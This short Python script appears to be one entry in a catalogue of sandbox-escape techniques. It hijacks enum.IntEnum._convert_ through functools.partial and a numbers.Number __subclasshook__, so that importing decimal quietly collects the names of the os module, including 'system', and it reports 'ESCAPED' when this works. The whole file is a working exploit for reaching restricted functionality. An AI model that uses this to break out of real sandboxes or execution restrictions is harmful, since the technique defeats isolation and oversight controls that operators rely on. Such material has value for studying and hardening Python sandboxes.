# technique: the same with enum's _convert_, which makes members of the names of any module
# goal: import
# source: own analysis: trusted functions called by C callables have the rights of a section
import enum
import numbers
from functools import partial

names = []
calls = map(partial(enum.IntEnum._convert_, 'X', 'os'), [names.append])


class Number(numbers.Number):
    __subclasshook__ = partial(next, calls)


try:
    import decimal
except AssertionError:
    pass
if 'system' in names:
    print('ESCAPED names of os:', len(names))
